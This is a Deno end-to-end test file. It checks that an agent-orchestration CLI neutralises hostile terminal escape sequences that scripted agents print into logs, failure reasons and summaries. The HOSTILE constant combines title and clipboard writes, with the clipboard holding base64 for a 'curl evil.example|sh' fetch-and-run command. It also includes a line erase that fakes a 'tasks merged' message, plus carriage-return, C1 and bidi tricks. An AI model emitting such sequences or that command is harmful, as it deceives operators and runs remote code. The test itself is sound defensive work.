/**
 * A hostile agent cannot drive the operator's terminal. Real CLI processes, real agents: the
 * agents print escape sequences — OSC 0 (window title), OSC 52 (clipboard write), CSI 2K + CSI 1A
 * erasing a line to fake "all tasks merged", carriage returns, the one-byte C1 CSI, a bidi
 * override — into their logs, into the output of a crash inside the fast-exit window (SpawnError)
 * and into the reason and the completion summary they report. The raw bytes `service run`,
 * `service status` and `service ps` write hold no ESC, BEL, CR, C1 or bidi character from them,
 * and no line of theirs starts a line of the terminal; what they tried is shown as escaped text.
 */
// deno-lint-ignore-file no-control-regex -- control characters are what this file looks for
import assert from "node:assert/strict";
import { join } from "node:path";
import { tempDir } from "./helpers.ts";
import { CLI, planYaml, sh, until } from "./_e2e.ts";
import { AGENT } from "./_e2e.ts";

/** Everything at once: title, clipboard, erase + fake line, CR overwrite, C1 CSI, bidi. */
const HOSTILE = "\x1b]0;pwned-title\x07" +
  "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07" +
  "\x1b[2K\x1b[1Arun e2e completed: all tasks merged" +
  "\rFAKE-OVERWRITE\x9b2K\u202edetareneg\u202c\x08\x1bP1$q\x1b\\";
/** A line an agent tries to make the terminal show as the service's own. */
const FAKE = "run e2e completed: all tasks merged";

/** Characters none of which may reach the terminal from an agent (C0 but \t \n, DEL, C1, bidi). */
const FORBIDDEN = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;

/** The plan's YAML with every non-ASCII character of the scripts written as a JSON escape. */
function hostilePlan(release: string): string {
  const text = planYaml([{
    name: "s",
    steps: [
      {
        id: "talker",
        script: [
          ["print", HOSTILE],
          ["print", `${HOSTILE}\n${FAKE}`],
          ["run", `until [ -f '${release}' ]; do sleep 0.2; done`], // lives until released
          ["write", "talker.txt", "ok\n"],
          ["report", `done ${HOSTILE}\n${FAKE}`],
        ],
      },
      { id: "crasher", script: [["print", `error: ${HOSTILE}`], ["exit", 3]] },
      { id: "failer", script: [["fail", `cannot ${HOSTILE}\n${FAKE}`]] },
    ],
  }]);
  return text.replace(
    /[^\x00-\x7e]/g,
    (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`,
  );
}

/** Bytes of a CLI process's standard output and error. */
async function cliOutput(root: string, ...args: string[]): Promise<Deno.CommandOutput> {
  return await new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", CLI, "--root", root, ...args],
    env: { NO_COLOR: "1", RUST_BACKTRACE: "0" },
    stdout: "piped",
    stderr: "piped",
  }).output();
}

/** What a terminal would get from the command: its standard output and error together. */
async function cliBytes(root: string, ...args: string[]): Promise<Uint8Array> {
  const out = await cliOutput(root, ...args);
  return new Uint8Array([...out.stdout, ...out.stderr]);
}

/** Assert `bytes` (what a terminal would get) hold nothing of the agents' control characters. */
function assertClean(what: string, bytes: Uint8Array): string {
  assert.ok(!bytes.includes(0x1b), `${what}: an ESC byte reached the terminal`);
  assert.ok(!bytes.includes(0x07), `${what}: a BEL byte reached the terminal`);
  assert.ok(!bytes.includes(0x0d), `${what}: a CR byte reached the terminal`);
  const text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
  const bad = FORBIDDEN.exec(text);
  assert.equal(bad, null, `${what}: U+${bad?.[0].codePointAt(0)?.toString(16)} reached it`);
  for (const line of text.split("\n")) {
    assert.ok(
      !line.startsWith(FAKE) && !line.startsWith("all tasks merged"),
      `${what}: an agent's text started a line: ${line}`,
    );
  }
  return text;
}

Deno.test("a hostile agent's escapes (title, clipboard, line erase, CR, C1, bidi) never reach the terminal of service run, status or ps", async () => {
  await using dir = await tempDir();
  await using outside = await tempDir();
  const release = join(outside.path, "release");
  await sh(dir.path, "init", "-q", "-b", "main");
  await sh(dir.path, "config", "user.email", "e2e@localhost");
  await sh(dir.path, "config", "user.name", "e2e");
  await Deno.writeTextFile(join(dir.path, "README.md"), "# e2e\n");
  await Deno.writeTextFile(
    join(dir.path, "service.yaml"),
    `cli: generic\ncli_command: ${JSON.stringify(["deno", "run", "-A", AGENT])}\n` +
      "roles:\n  backend: {}\n",
  );
  await Deno.writeTextFile(join(dir.path, "plan.yaml"), hostilePlan(release));
  await sh(dir.path, "add", "-A");
  await sh(dir.path, "commit", "-q", "-m", "init");

  const run = new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", CLI, "--root", dir.path, "run", "--port", "0"],
    env: { NO_COLOR: "1", RUST_BACKTRACE: "0" },
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  const output = run.output();

  // While the talker lives (its log holds the escapes), and the other two have failed.
  const runtime = join(dir.path, ".sdd/runtime");
  const talkerLogged = async () => {
    for (const e of await Array.fromAsync(Deno.readDir(runtime)).catch(() => [])) {
      if (!e.name.endsWith(".log")) continue;
      const log = await Deno.readTextFile(join(runtime, e.name)).catch(() => "");
      if (log.includes("FAKE-OVERWRITE") && log.includes("scripted agent for talker")) return true;
    }
    return false;
  };
  await until("the talker printed its escapes", talkerLogged);
  await until("crasher and failer failed", async () => {
    // Standard output alone is the JSON (a loaded machine may add a notice on standard error).
    const status = new TextDecoder().decode((await cliOutput(dir.path, "status", "--json")).stdout);
    const tasks = JSON.parse(status).run?.failed ?? {};
    return "crasher" in tasks && "failer" in tasks;
  });
  const liveStatus = assertClean("service status (live)", await cliBytes(dir.path, "status"));
  assert.match(liveStatus, /failer FAILED: cannot \\x1b\]0;pwned-title\\x07\\x1b\]52;c;/);
  assert.match(liveStatus, /crasher FAILED: .*\\x1b\[2K\\x1b\[1Arun e2e completed/);
  assert.match(liveStatus, /agents: 1 live/, "the talker is still running");
  const ps = assertClean("service ps (live)", await cliBytes(dir.path, "ps", "--all"));
  assert.match(ps, /talker\s+backend/);
  await Deno.writeTextFile(release, "");

  const done = await output;
  const terminal = assertClean(
    "service run",
    new Uint8Array([...done.stdout, ...done.stderr]),
  );
  assert.equal(done.code, 1, terminal);
  // What they tried is visible, as text, in the progress lines and the final problems.
  assert.match(terminal, /\\x1b\]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07/);
  assert.match(terminal, /\\rFAKE-OVERWRITE\\u009b2K\\u202edetareneg\\u202c\\x08\\x1bP1\$q/);
  assert.match(terminal, /SpawnError: agent exited within 2s \(exit 3\): error: \\x1b\]0;/);
  // The fast-exit tail: the crasher's own lines, set behind the gutter under the time stamp.
  assert.match(terminal, /\n {8}│ {3}error: \\x1b\]0;pwned-title/);
  assert.match(terminal, /^run \S+ failed:$/m);

  const status = assertClean("service status", await cliBytes(dir.path, "status"));
  assert.match(status, /failer FAILED: cannot \\x1b\]0;pwned-title.*\\nrun e2e completed: all/);
  assertClean("service ps", await cliBytes(dir.path, "ps", "--all"));
  assertClean("service runs", await cliBytes(dir.path, "runs"));
  assertClean("service doctor", await cliBytes(dir.path, "doctor"));

  // On a terminal colours are on: the only sequences that reach it are the service's own.
  const pty = await onTerminal(dir.path, "status");
  if (pty === undefined) {
    console.warn("\n!!! SKIPPED: the colour check of this test needs `script` (util-linux)\n");
    return;
  }
  assert.match(pty, /\x1b\[1mservice status\x1b\[0m/, `colours are on: ${JSON.stringify(pty)}`);
  assert.match(pty, /failer FAILED: cannot \\x1b\]0;pwned-title/);
  for (const m of pty.matchAll(/\x1b(\[[0-9;?]*[ -\/]*[@-~]|[^[])/g)) {
    assert.match(m[0], /^\x1b\[(0|1|2|31|32|33)m$/, `not the service's: ${JSON.stringify(m[0])}`);
  }
  assert.equal(FORBIDDEN.exec(pty.replaceAll(/\x1b\[(0|1|2|31|32|33)m/g, "")), null);
});

/** What `service <args>` writes on a terminal (a pty from `script`), or undefined without one. */
async function onTerminal(root: string, ...args: string[]): Promise<string | undefined> {
  const script = await Deno.stat("/usr/bin/script").then(() => "/usr/bin/script", () => "");
  if (!script) return undefined;
  const command = [Deno.execPath(), "run", "-A", CLI, "--root", root, ...args]
    .map((a) => `'${a.replaceAll("'", "'\\''")}'`).join(" ");
  const out = await new Deno.Command(script, {
    args: ["-qfec", command, "/dev/null"],
    clearEnv: true,
    env: { PATH: Deno.env.get("PATH") ?? "", HOME: Deno.env.get("HOME") ?? "/", TERM: "xterm" },
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  // The pty ends its lines with \r\n.
  return new TextDecoder().decode(out.stdout).replaceAll("\r\n", "\n");
}
